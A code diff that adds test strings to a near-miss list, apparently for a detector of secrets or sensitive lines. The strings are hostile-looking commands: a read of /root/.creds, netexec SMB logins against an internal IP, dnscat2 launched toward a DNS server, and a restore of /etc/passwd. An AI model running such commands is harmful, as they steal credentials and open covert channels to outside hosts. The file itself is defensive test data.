@@ -1484,6 +1484,18 @@ NEAR_MISSES: dict[str, tuple[str, ...]] = {
     # Windows path, `net user /domain NAME`, a cyclic pattern, a format's prefix alone, a
     # playground's source in a URL, an analytics cookie's encoded text, an environment's
     # session name, Symfony's env reference, a header's name, an SMB prompt, a lexer's style
+    # round 37: the twelfth real sample's wrong lines (read held out, development since),
+    # written anew: a script's $(cat …) and the line after it, a flag at a line's end and the
+    # command on the next, a PowerShell command beside a key, an embed after "password:", a
+    # setting on the line after a label, "**hidden**", a word before a path
+    "round-37": (
+        'DB_PASS=$(/usr/bin/cat /root/.creds)\nBACKUP_DIR="/var/backups/mysql"',
+        "netexec smb 10.10.11.69 -u svc --pfx-pass \n\nnetexec smb 10.10.11.69 -u svc -k",
+        "Import-Module .\\dnscat2.ps1\n\nStart-Dnscat2 -DNSserver 10.10.14.9 -Domain corp.local",
+        "reveals a connection string containing the password:\n![[dnspy_conn_string.webp]]",
+        "  Credential: **hidden**",
+        "Password: Restoring /etc/passwd from /tmp/passwd.bak...",
+    ),
     # round 36: the thirteenth real sample's wrong lines (and the corpora's chat pastes),
     # written anew: a type's annotation, Laravel's cast, a k8s secretKey's name, an absolute
     # path, Compose's $$VAR and $$(…), a build secret's spec, "net user" in a sentence, a
